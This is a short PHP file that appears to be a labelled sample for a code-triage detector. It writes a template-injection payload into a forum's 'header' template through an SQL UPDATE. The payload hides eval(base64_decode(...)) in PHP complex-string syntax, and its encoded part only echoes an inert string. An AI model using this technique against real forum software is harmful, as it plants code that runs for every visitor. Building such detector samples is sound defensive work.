<?php
// triage-expect: triage_php_interpolated_call
// Writes a forum template whose text runs code when the forum evaluates it (complex syntax).
$payload = "{\${eval(base64_decode('ZWNobyAnaW5lcnQgc2FtcGxlJzs='))}}";
$db = mysqli_connect('localhost', $_POST['u'], $_POST['p'], $_POST['d']);
mysqli_query($db, "UPDATE template SET template = '" . mysqli_real_escape_string($db, $payload) . "' WHERE title = 'header'");
